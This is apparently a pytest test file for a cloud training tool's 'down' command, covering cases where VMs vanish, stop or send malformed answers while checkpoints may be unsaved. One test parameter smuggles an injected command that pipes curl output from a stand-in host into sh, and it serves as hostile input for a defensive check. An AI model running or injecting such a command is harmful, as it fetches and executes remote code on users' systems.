"""VMs that are deleted while a command waits for them: no good-bye, no reset, nothing answers any more."""

from __future__ import annotations

import json
import os
import signal
import threading
from collections.abc import Callable
from dataclasses import replace
from typing import Any

import pytest

from hvdcloud.checkpoints.manifest import log_name, manifest_name, state_name
from hvdcloud.cluster.model import Cluster, Node, NodeState
from hvdcloud.errors import CheckpointError, CredentialsError, NodeError
from hvdcloud.lifecycle import logs
from hvdcloud.lifecycle.context import Context
from hvdcloud.lifecycle.down import down
from hvdcloud.remote import connection
from hvdcloud.remote.ssh import Session
from hvdcloud.runs.state import RunState
from tests.support.vanishing import RUN, Laptop, Machines, NewVm, Program, Vm, says

ENDED = {"run": RUN, "state": "done", "result": "succeeded", "checkpoints": {"files": 0, "complete": True}}
SOON = 60.0
"""Far below every deadline of a call, and enough for a busy machine."""


def goes_on(text: str = "") -> Program:
    """A program that does not end."""
    return lambda channel: channel.sendall(text.encode())


def when_asked(vm: Vm, act: Callable[[], None]) -> None:
    """Do something as soon as a command waits for a program on this VM."""

    def wait() -> None:
        assert vm.asked.wait(SOON)
        act()

    threading.Thread(target=wait, daemon=True).start()


def deletes(context: Context, machines: Machines) -> None:
    """`down` does."""
    with context:
        down(context)
    assert machines.destroyed


def refusal(context: Context, machines: Machines) -> CheckpointError:
    """Why `down` deletes nothing."""
    with context, pytest.raises(CheckpointError) as raised:
        down(context)
    assert not machines.destroyed
    return raised.value


@pytest.fixture
def no_credentials(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GOOGLE_APPLICATION_CREDENTIALS", "/nowhere/key.json")


@pytest.fixture
def gives_up_soon(laptop: Laptop, monkeypatch: pytest.MonkeyPatch) -> None:
    """No node is left that a busy machine could keep from answering in time."""
    monkeypatch.setattr(connection, "ANSWER_SECONDS", 1.5)


@pytest.mark.usefixtures("gives_up_soon")
@pytest.mark.parametrize("verb", ["flush", "stop", "state"])
def test_a_call_to_a_vm_that_vanishes_ends_before_its_deadline(laptop: Laptop, new_vm: NewVm, verb: str) -> None:
    vm = new_vm({"hvdcloud-node": goes_on()})
    context, _, _ = laptop.context([vm])
    session = Session(vm.node(0), context.state)
    when_asked(vm, vm.vanish)
    with pytest.raises(NodeError, match="connection to node digits-0 was lost"):
        session.call(verb, timeout=600)
    session.close()


def test_ctrl_c_ends_a_call_at_once(laptop: Laptop, new_vm: NewVm) -> None:
    vm = new_vm({"hvdcloud-node": goes_on()})
    session = Session(vm.node(0), laptop.context([vm])[0].state)
    before = signal.signal(signal.SIGINT, signal.default_int_handler)
    try:
        when_asked(vm, lambda: os.kill(os.getpid(), signal.SIGINT))
        with pytest.raises(KeyboardInterrupt):
            session.call("stop", timeout=600)
    finally:
        signal.signal(signal.SIGINT, before)
        session.close()


def test_down_names_the_one_node_whose_manifest_can_not_be_used(laptop: Laptop, new_vm: NewVm) -> None:
    vms = [new_vm({"hvdcloud-node flush": says('{"runs": {}}\n')}) for _ in range(2)]
    context, _, machines = laptop.context(vms)
    laptop.keep_manifest(0, complete=True)
    laptop.keep(manifest_name("digits", RUN, 1), b"junk")
    refused = refusal(context, machines)
    assert "what node 1 wrote is not verified" in refused.message
    assert "--force" in refused.hint


@pytest.mark.parametrize("data", [b"junk", None], ids=["junk", "incomplete"])
def test_a_manifest_of_no_node_keeps_no_cluster(laptop: Laptop, new_vm: NewVm, data: bytes | None) -> None:
    """A job could keep its nodes, and what they cost, by a file in the bucket."""
    context, _, machines = laptop.context([new_vm({"hvdcloud-node flush": says('{"runs": {}}\n')})])
    laptop.keep_manifest(0, complete=True)
    laptop.keep_manifest(777, complete=False)
    if data is not None:
        laptop.keep(manifest_name("digits", RUN, 777), data)
    deletes(context, machines)


def test_down_of_nodes_that_delete_themselves_meanwhile_continues(laptop: Laptop, new_vm: NewVm) -> None:
    head = new_vm({"hvdcloud-node flush": goes_on()})
    worker = new_vm({"hvdcloud-node flush": says('{"runs": {}}\n')})
    context, cluster, machines = laptop.context([head, worker])
    for node in (0, 1):
        laptop.keep_manifest(node, complete=True)

    def delete() -> None:
        machines.cluster_now = replace(cluster, nodes=cluster.nodes[1:])
        head.vanish()

    when_asked(head, delete)
    deletes(context, machines)


@pytest.mark.usefixtures("gives_up_soon")
@pytest.mark.parametrize(
    ("listed", "refused"),
    [
        pytest.param(lambda cluster: None, "", id="it is gone"),
        pytest.param(lambda cluster: cluster, "connection to node digits-0 was lost", id="it is still there"),
        pytest.param(
            lambda cluster: replace(cluster, nodes=(), unseen=("zone us-central1-a",)),
            "is not deleted",
            id="a zone that does not answer may hold it",
        ),
    ],
)
def test_down_refuses_while_a_node_does_not_answer_that_may_still_be_there(
    laptop: Laptop, new_vm: NewVm, listed: Callable[[Cluster], Cluster | None], refused: str
) -> None:
    vm = new_vm({"hvdcloud-node flush": goes_on()})
    context, cluster, machines = laptop.context([vm])
    laptop.keep_manifest(0, complete=True)

    def vanish() -> None:
        machines.cluster_now = listed(cluster)
        vm.vanish()

    when_asked(vm, vanish)
    if refused:
        assert refused in str(refusal(context, machines))
    else:
        deletes(context, machines)


@pytest.mark.parametrize("runs", [[RUN], "all", {RUN: []}, {"x; curl evil.example | sh": {}}])
def test_down_refuses_while_a_node_answers_something_else(laptop: Laptop, new_vm: NewVm, runs: Any) -> None:
    vm = new_vm({"hvdcloud-node flush": says(json.dumps({"runs": runs}) + "\n")})
    context, _, machines = laptop.context([vm])
    laptop.keep_manifest(0, complete=True)
    assert "node digits-0 does not say what it holds" in str(refusal(context, machines))


@pytest.mark.parametrize(
    ("report", "reason"),
    [
        ({"active": True}, f"run {RUN} is still active"),
        ({"pending": ["last.pt"]}, f"{RUN}: last.pt is not in the bucket yet"),
        ({"errors": ["no space left"]}, f"{RUN}: node digits-0 says: no space left"),
    ],
)
def test_down_refuses_while_a_node_has_something_that_is_not_in_the_bucket(
    laptop: Laptop, new_vm: NewVm, report: dict[str, Any], reason: str
) -> None:
    vm = new_vm({"hvdcloud-node flush": says(json.dumps({"runs": {RUN: report}}) + "\n")})
    context, _, machines = laptop.context([vm])
    laptop.keep_manifest(0, complete=True)
    refused = refusal(context, machines)
    assert (refused.message, refused.details) == (f"digits is not deleted: {reason}", "")


def test_down_refuses_while_a_zone_that_does_not_answer_may_hold_the_only_node(laptop: Laptop) -> None:
    context, cluster, machines = laptop.context([])
    machines.cluster_now = replace(cluster, expected_nodes=1, unseen=("zone us-central1-a",))
    laptop.keep_manifest(0, complete=False)
    assert "node 0 has not finished uploading" in refusal(context, machines).message


def never_ran(laptop: Laptop, vms: list[Vm]) -> tuple[Context, Machines]:
    """A cluster whose bucket nobody may open, and that this machine has started no run on."""
    context, cluster, machines = laptop.context(vms)
    machines.cluster_now = replace(cluster, bucket="gs://nobody-may-open-this")
    context.state.update(lambda record: replace(record, runs=()))
    return context, machines


def test_down_of_a_cluster_that_never_ran_opens_no_bucket(laptop: Laptop, new_vm: NewVm, no_credentials: None) -> None:
    context, machines = never_ran(laptop, [new_vm({"hvdcloud-node state": says('{"runs": []}\n')})])
    deletes(context, machines)


@pytest.mark.parametrize(
    "answer", [f'{{"runs": [{{"run": "{RUN}", "state": "running"}}]}}\n', '{"error": "full", "hint": ""}\n']
)
def test_down_opens_the_bucket_where_the_head_does_not_say_that_nothing_ran(
    laptop: Laptop, new_vm: NewVm, no_credentials: None, answer: str
) -> None:
    context, machines = never_ran(laptop, [new_vm({"hvdcloud-node": says(answer)})])
    with context, pytest.raises(CredentialsError):
        down(context)
    assert not machines.destroyed


def test_down_during_a_run_says_so_and_not_what_is_missing(laptop: Laptop, new_vm: NewVm) -> None:
    state = {"run": RUN, "state": "running"}
    programs = {
        "hvdcloud-node flush": says(json.dumps({"runs": {RUN: {"pending": ["last.pt"]}}}) + "\n"),
        "hvdcloud-node state": says(json.dumps({"runs": [state]}) + "\n"),
    }
    context, _, machines = laptop.context([new_vm(programs)])
    laptop.keep_manifest(0, complete=False)
    refused = refusal(context, machines)
    assert refused.message == f"digits is not deleted: run {RUN} is still going"
    assert (refused.details, refused.hint) == ("", "hvdcloud stop --name digits ends it")


def test_down_of_a_cluster_whose_nodes_are_gone_needs_nothing_of_them(laptop: Laptop) -> None:
    context, cluster, machines = laptop.context([])
    machines.cluster_now = replace(cluster, expected_nodes=1)
    laptop.keep_manifest(0, complete=False)
    deletes(context, machines)
    assert f"checkpoints of run {RUN} are in" in laptop.err.getvalue()


@pytest.mark.parametrize(
    ("of_the_head", "of_the_stopped_one", "safe"),
    [
        pytest.param(True, True, True, id="all is in the bucket"),
        pytest.param(True, False, False, id="it had not finished"),
        pytest.param(True, None, False, id="it has not said that it took part"),
        pytest.param(None, None, False, id="no node has said so"),
    ],
)
def test_down_of_a_stopped_node_asks_the_bucket_what_it_holds(
    laptop: Laptop, of_the_head: bool | None, of_the_stopped_one: bool | None, safe: bool
) -> None:
    """The head was preempted; node 1 is a machine that is switched off."""
    context, cluster, machines = laptop.context([])
    stopped = Node(name="digits-1", index=1, id="1", state=NodeState.STOPPED)
    machines.cluster_now = replace(cluster, expected_nodes=2, nodes=(stopped,))
    for index, complete in enumerate((of_the_head, of_the_stopped_one)):
        if complete is not None:
            laptop.keep_manifest(index, complete=complete)
    if safe:
        deletes(context, machines)
        return
    refused = refusal(context, machines)
    assert refused.message == "digits is not deleted: node digits-1 is stopped and may hold more"
    assert "with --force it gives up" in refused.hint


@pytest.mark.parametrize(
    ("known", "safe"),
    [
        pytest.param({}, True, id="it ended before that"),
        pytest.param({"data_seconds": 3.2}, False, id="its ranks were about to start"),
        pytest.param({"launched": 1.8e9}, False, id="its ranks were started"),
        pytest.param({"data": []}, False, id="nothing is said of its data"),
        pytest.param({"state": "starting"}, False, id="it may start them"),
    ],
)
def test_a_stopped_node_holds_nothing_of_a_run_that_has_only_waited_for_data(
    laptop: Laptop, known: dict[str, Any], safe: bool
) -> None:
    context, cluster, machines = laptop.context([])
    stopped = Node(name="digits-1", index=1, id="1", state=NodeState.STOPPED)
    machines.cluster_now = replace(cluster, expected_nodes=2, nodes=(stopped,))
    laptop.keep_manifest(0, complete=True)
    waiting = {"node": "digits-1", "phase": "fetching"}
    ended = {**ENDED, "result": "lost", "data": [waiting], **known}
    laptop.keep(state_name("digits", RUN), json.dumps(ended).encode())
    if safe:
        deletes(context, machines)
    else:
        assert "node digits-1 is stopped and may hold more" in str(refusal(context, machines))


def test_who_follows_a_run_learns_its_end_from_the_bucket_when_the_head_vanishes(laptop: Laptop, new_vm: NewVm) -> None:
    vm = new_vm({"hvdcloud-node logs": goes_on("[0] epoch 1\n")})
    context, cluster, machines = laptop.context([vm])

    def delete() -> None:
        laptop.keep(log_name("digits", RUN), b"[0] epoch 1\n[0] epoch 2\n")
        laptop.keep(state_name("digits", RUN), json.dumps(ENDED).encode())
        machines.cluster_now = None
        vm.vanish()

    when_asked(vm, lambda: threading.Timer(0.5, delete).start())
    with context:
        followed = logs.follow(context, cluster, RUN)
    assert followed.state == RunState.from_json(ENDED)
    assert (laptop.out.getvalue(), followed.log.last_line) == ("[0] epoch 1\n[0] epoch 2\n", "epoch 2")
